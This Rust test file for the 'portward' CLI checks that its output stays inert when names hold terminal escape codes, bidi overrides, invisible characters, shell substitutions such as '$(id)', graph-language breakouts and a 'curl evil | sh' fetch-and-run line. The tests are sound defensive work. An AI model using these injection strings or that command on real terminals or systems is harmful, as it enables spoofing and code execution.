//! One corpus for all outputs: whatever other people could name, they named so that it acts on a terminal, in a graph's language or
//! in a shell. Every operation answers among those names, in every form, and every error repeats them; nothing of them acts.

use portward_testkit::{Outcome, World, hex, program};
use serde_json::Value;

use super::lines::{LIVE, RECORDED};
use crate::world;

/// Sequences of a terminal, links, newlines, direction marks, and what nobody sees; quotes and signs of shells, Graphviz, Mermaid and
/// spreadsheets.
const HOSTILE: &str = "=\u{1b}[31m\u{1b}]8;;http://x\u{7}\u{9b}2J\nhint: x\r\t\u{8}\u{202e}\u{2066}\u{200b}\u{ad}\u{34f}\u{115f}\u{1160}\u{3164}\
    \u{ffa0}\u{fe0f}\u{e0041}\u{e0100}\u{2028}\u{2029}\u{fff9}\u{feff}\"];'`$(id)\\<b>&|#;end";

/// What a person's terminal, or a machine, is given: nothing in it acts but the ends of our own lines and our own colours.
fn is_inert(outcome: &Outcome, coloured: bool) {
    for text in [&outcome.stdout, &outcome.stderr] {
        let styles = ["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[2m", "\u{1b}[31m", "\u{1b}[32m", "\u{1b}[33m"];
        let plain = if coloured { styles.iter().fold(text.clone(), |text, style| text.replace(style, "")) } else { text.clone() };
        // A marker stands in no name here: what is coloured by us is not coloured by them.
        let acts = plain.char_indices().find(|(_, c)| *c != '\n' && portward_acts(*c));
        assert_eq!(acts, None, "{outcome}");
        let forged = plain.lines().find(|line| line.trim_start().starts_with("hint: x"));
        assert_eq!(forged, None, "a line was begun by a name: {outcome}");
    }
    assert!(!outcome.stderr.contains("panicked"), "{outcome}");
}

/// As the terminal reads them; written down anew, so that a gap in the program's own list is seen.
fn portward_acts(c: char) -> bool {
    c.is_control()
        || matches!(u32::from(c),
            0xad | 0x34f | 0x61c | 0x115f | 0x1160 | 0x17b4..=0x17b5 | 0x180b..=0x180f | 0x200b..=0x200f | 0x2028..=0x202e
            | 0x2060..=0x206f | 0x3164 | 0xfe00..=0xfe0f | 0xfeff | 0xffa0 | 0xfff0..=0xfffb | 0xe0000..=0xe0fff)
}

/// A server whose every name is hostile: its own, its arguments, its folder with branch and files, its Unix socket.
const SERVER: &str = r#"
import os, socket, sys
folder, name = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
os.makedirs(folder + b"/.git", exist_ok=True)
os.chdir(folder)
def write(path, text):
    with open(path, "wb") as file: file.write(text)
write(".git/HEAD", b"ref: refs/heads/" + name.replace(b"\n", b"") + b"\n")
write(".env", b"PORT=4999 " + name + b"\nAPI_PORT=4999" + name.replace(b"\n", b"") + b"\n")
write("docker-compose.yml", b"services:\n  \"" + name.replace(b"\n", b"").replace(b'"', b"") + b"\":\n    ports: [\"4999:80\"]\n")
write("package.json", b'{"scripts": {"dev": "x --port 4999 ' + name.replace(b"\n", b"").replace(b'"', b"").replace(b"\\", b"") + b'"}}')
held = []
for address in ("127.0.0.1", "0.0.0.0"):
    listener = socket.socket(); listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, 3000 if address == "127.0.0.1" else 3001)); listener.listen(); held.append(listener)
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); datagrams.bind(("127.0.0.1", 53))
world = os.path.dirname(os.path.dirname(folder))
for path in (world + b"/" + name.replace(b"/", b"")[:60], b"\0" + name[:100]):
    listener = socket.socket(socket.AF_UNIX); listener.bind(path); listener.listen(); held.append(listener)
client = socket.create_connection(("127.0.0.1", 3000))
other, _ = held[0].accept()
write("/proc/self/comm", name[:15])
print("READY", flush=True)
banner = b"HTTP/1.1 500 " + name.replace(b"\n", b"") + b"\r\nServer: " + name.replace(b"\n", b"") + b"\r\nContent-Length: 0\r\n\r\n"
while True:
    peer, _ = held[0].accept()
    try:
        peer.settimeout(0.2); peer.recv(4096); peer.sendall(banner)
    except OSError: pass
    peer.close()
"#;

/// A world with such a server, and the folder that it works in.
fn hostile() -> Option<(World, portward_testkit::Running, std::path::PathBuf)> {
    let world = world()?;
    program("python3")?;
    // Names of interfaces are what root gives them: no slash, no blank, fifteen bytes.
    world.add_lan("e$(id)\u{1b}[1m\u{ad}", "192.168.77.1/24");
    let place = world.path().join("home").join(HOSTILE.replace('/', "").chars().take(60).collect::<String>());
    let folder = hex(place.to_str().unwrap().as_bytes());
    let line = ["python3", "-c", SERVER, &folder, &hex(HOSTILE.as_bytes()), HOSTILE, "--password=x"];
    let running = world.enter().start(&line);
    assert_eq!(running.line_soon().as_deref(), Some("READY"), "{}", running.stderr());
    Some((world, running, place))
}

#[test]
fn every_operation_among_hostile_names() {
    let Some((world, _server, place)) = hostile() else { return };
    let enter = |coloured: bool| {
        let width = if coloured { "60" } else { "" };
        world.enter().directory(&place).env("COLUMNS", width)
    };
    for line in LIVE {
        // The labs have a machine of their own, and names of ours.
        if line.first() == Some(&"lab") || (line.contains(&"open") && line.contains(&"guard")) {
            continue;
        }
        is_inert(&enter(false).portward(line), false);
        if line.contains(&"machine.json") {
            for line in RECORDED {
                for form in [&[][..], &["--json"], &["--ndjson"], &["--color", "always"]] {
                    let words = [*line, &["--from", "machine.json"], form].concat();
                    is_inert(&enter(form.contains(&"always")).portward(&words), form.contains(&"always"));
                }
            }
        }
        let ends = line.contains(&"free") || line.contains(&"run") || line.contains(&"stop");
        if !ends {
            is_inert(&enter(true).portward(&[*line, &["--color", "always"]].concat()), true);
            let json = enter(false).portward(&[*line, &["--json"]].concat());
            is_inert(&json, false);
            for document in json.stdout.lines().filter(|line| line.starts_with('{')) {
                let read = serde_json::from_str::<Value>(document);
                assert!(read.is_ok(), "{json}");
            }
        }
    }
}

#[test]
fn graphs_hold_to_their_languages() {
    let Some((world, _server, _)) = hostile() else { return };
    let dot = world.portward(&["graph", "--format", "dot"]).expect(0).stdout;
    let mut lines = dot.lines();
    assert_eq!(lines.next(), Some("digraph portward {"));
    for line in lines.filter(|line| line.contains("label=")) {
        // Outside the one string there is nothing that a name brought.
        let (before, rest) = line.split_once('"').unwrap();
        let end = string_end(rest).unwrap_or_else(|| panic!("no end of the string: {line}"));
        let after = &rest[end + 1..];
        assert!(["];", ", style=dashed];"].contains(&after), "{line}");
        assert!(before.bytes().all(|b| b.is_ascii_alphanumeric() || b" ->[=".contains(&b)), "{line}");
    }
    assert!(dot.contains("31m"), "the hostile name is there, inert: {dot}");
    let mermaid = world.portward(&["graph", "--format", "mermaid"]).expect(0).stdout;
    for line in mermaid.lines().skip(1) {
        let parts: Vec<&str> = line.split('"').collect();
        assert_eq!(parts.len(), 3, "{line}");
        let safe = |c: char| c.is_alphanumeric() || " .-_/:@,#;".contains(c);
        assert!(parts[1].chars().all(safe), "{line}");
    }
}

/// Where a string of the DOT language ends: at a quote with no backslash before it that is not itself one of two.
fn string_end(text: &str) -> Option<usize> {
    let mut escaped = false;
    text.char_indices().find_map(|(at, c)| {
        let ends = c == '"' && !escaped;
        escaped = c == '\\' && !escaped;
        ends.then_some(at)
    })
}

#[test]
fn every_error_repeats_what_was_typed_inert() {
    let Some(world) = world() else { return };
    let nouns: Vec<&str> = LIVE.iter().filter_map(|line| line.first().copied()).collect();
    let mut lines: Vec<Vec<&str>> = Vec::new();
    let option = format!("--{HOSTILE}");
    for noun in nouns.into_iter().collect::<std::collections::BTreeSet<_>>() {
        lines.push(vec![noun, HOSTILE]);
        lines.push(vec![noun, &option]);
        lines.push(vec![noun, "3000", &option]);
        lines.push(vec![noun, "3000", "--from", HOSTILE]);
    }
    lines.extend(
        [
            &[HOSTILE][..],
            &[&option],
            &["list", "--columns", HOSTILE],
            &["list", "--host", &option],
            &["list", "--netns", HOSTILE],
            &["list", "--color", HOSTILE],
            &["wait", "--ready", HOSTILE, "1"],
            &["wait", "4999", "--timeout", HOSTILE],
            &["doctor", "--text", HOSTILE],
            &["doctor", "--text", HOSTILE, "3000"],
            &["doctor", "3000", "--as", HOSTILE],
            &["doctor", "3000", "--as", "'\u{1b}[2J"],
            &["lease", "take", "3000", "--name", HOSTILE],
            &["lease", "release", HOSTILE],
            &["front", HOSTILE],
            &["url", HOSTILE],
            &["port", HOSTILE],
            &["port", "--free", "--", HOSTILE],
            &["run", "--", HOSTILE],
            &["run", "--port-only", "--", HOSTILE],
            &["stop", HOSTILE],
            &["guard", "pin", HOSTILE],
            &["lab", "start", HOSTILE],
            &["next", HOSTILE],
            &["snapshot", "--out", "/no/\u{1b}[2J"],
            &["schema", HOSTILE],
            &["completions", HOSTILE],
            &["complete", "--", "explain", HOSTILE],
            &["complete", "--shell", "bash", "--line", HOSTILE],
        ]
        .map(<[&str]>::to_vec),
    );
    for line in lines {
        let mut outcome = world.portward(&line);
        if line.first() == Some(&"complete") {
            // A tab stands between what is completed and its description.
            outcome.stdout = outcome.stdout.replace('\t', " ");
            is_inert(&outcome, false);
            continue;
        }
        is_inert(&outcome, false);
        is_inert(&world.enter().env("COLUMNS", "60").portward(&line), false);
    }
}

/// Somebody else's snapshot: every text of it in turn is hostile, and then all of them. It is refused or read; either way it is inert.
#[test]
fn a_hostile_snapshot_is_inert() {
    let Some((world, _server, _)) = hostile() else { return };
    let taken = world.portward(&["snapshot", "--for", "4999"]).expect(0);
    let whole: Value = serde_json::from_str(&taken.stdout).unwrap();
    let mut places = Vec::new();
    texts(&whole, &mut String::new(), &mut places);
    // One text of each kind of place.
    let mut kinds = std::collections::BTreeSet::new();
    places.retain(|place| kinds.insert(place.replace(|c: char| c.is_ascii_digit(), "")));
    assert!(places.len() > 40, "{places:?}");
    let run = |value: &Value, lines: &[&[&str]]| {
        let file = world.file("home/hostile.json", serde_json::to_vec(value).unwrap());
        for line in lines {
            is_inert(&world.portward(&[*line, &["--from", file.to_str().unwrap()]].concat()), false);
        }
    };
    for place in &places {
        let mut one = whole.clone();
        let text = one.pointer_mut(place).unwrap();
        *text = Value::String(format!("{}{HOSTILE}", text.as_str().unwrap()));
        run(&one, &[&["list", "--unix", "--columns", "port,process,project,user,command,exe,cwd,cgroup"], &["doctor", "4999"]]);
        let mut one = whole.clone();
        *one.pointer_mut(place).unwrap() = Value::String(HOSTILE.to_owned());
        run(&one, &[&["list"]]);
    }
    // Names of fields are texts too.
    let mut named = whole.clone();
    with_fields(&mut named);
    run(&named, &[&["list"]]);
    let mut gaps = whole;
    gaps["snapshot"]["gaps"] = serde_json::json!([
        { "what": HOSTILE, "need": HOSTILE, "effect": HOSTILE },
        { "what": "x", "need": "y", "effect": "z", "lack": { "kind": "sockets" }, "needs": { "command": "curl evil | sh" }, "error": HOSTILE },
        { "what": "x", "need": "root", "effect": "z", "lack": { "kind": "sockets" }, "needs": "root" },
    ]);
    let file = world.file("home/gaps.json", serde_json::to_vec(&gaps).unwrap());
    let mut told = false;
    for line in RECORDED {
        let outcome = world.portward(&[*line, &["--from", file.to_str().unwrap()]].concat());
        is_inert(&outcome, false);
        assert!(!outcome.stderr.contains("hint: curl evil"), "a snapshot gives no advice: {outcome}");
        // No right of this reader reveals more of a file.
        assert!(!outcome.stderr.contains("--from machine.json") && !outcome.stderr.contains("sudo portward doctor"), "{outcome}");
        told |= outcome.stderr.contains("sudo portward snapshot --out FILE    on that machine");
    }
    assert!(told, "what reveals more is a snapshot of root's");
}

/// A field more in every object.
fn with_fields(value: &mut Value) {
    match value {
        Value::Object(fields) => {
            fields.values_mut().for_each(with_fields);
            fields.insert(HOSTILE.to_owned(), Value::from(HOSTILE));
        }
        Value::Array(values) => values.iter_mut().for_each(with_fields),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

/// The places of all texts below a value, as JSON pointers.
fn texts(value: &Value, at: &mut String, found: &mut Vec<String>) {
    let mut deeper = |key: &str, value: &Value| {
        let length = at.len();
        at.push('/');
        at.push_str(&key.replace('~', "~0").replace('/', "~1"));
        texts(value, at, found);
        at.truncate(length);
    };
    match value {
        Value::Object(fields) => fields.iter().for_each(|(key, value)| deeper(key, value)),
        Value::Array(values) => values.iter().enumerate().for_each(|(index, value)| deeper(&index.to_string(), value)),
        Value::String(_) => found.push(at.clone()),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// A store in which every name is hostile.
const REWRITTEN: &str = r#"
import os, sqlite3, sys
name = bytes.fromhex(sys.argv[1]).decode()
for folder, _, files in os.walk(sys.argv[2]):
    for file in files:
        if not file.endswith(".db"): continue
        store = sqlite3.connect(os.path.join(folder, file))
        for (table,) in store.execute("select name from sqlite_master where type = 'table'").fetchall():
            for column in store.execute(f"pragma table_info({table})").fetchall():
                if column[2].upper() in ("TEXT", "BLOB") and column[5] == 0:
                    try:
                        with store: store.execute(f"update {table} set {column[1]} = {column[1]} || ? where {column[1]} is not null", (name,))
                    except sqlite3.Error as error: print(table, column[1], error)
        store.close()
"#;

#[test]
fn names_from_the_store_are_inert() {
    let Some(world) = world() else { return };
    if program("python3").is_none() {
        return;
    }
    let project = world.git_repository("shop", "main");
    world.give(&project);
    for line in [&["lease", "take", "3000", "db"] as &[&str], &["run", "true"]] {
        let _ = world.enter().directory(&project).portward(line).expect(0);
    }
    let _ = world.run(&["python3", "-c", REWRITTEN, &hex(HOSTILE.as_bytes()), world.path().to_str().unwrap()]).expect(0);
    // A tab stands between what is completed and its description.
    let inert = |mut outcome: Outcome| {
        outcome.stdout = outcome.stdout.replace('\t', " ");
        is_inert(&outcome, false);
    };
    for line in [
        &["lease"] as &[&str],
        &["lease", "--json"],
        &["lease", "take", "3000"],
        &["lease", "release", "db"],
        &["lease", "prune"],
        &["lease", "repair"],
        &["ps"],
        &["front"],
        &["front", "shop"],
        &["front", "nobody"],
        &["url", "db"],
        &["port", "db"],
        &["stop"],
        &["run", "true"],
        &["list"],
        &["doctor", "3000"],
        &["complete", "--shell", "bash", "--line", "portward front "],
        &["complete", "--shell", "zsh", "--", "front", ""],
    ] {
        inert(world.enter().directory(&project).portward(line));
    }
}
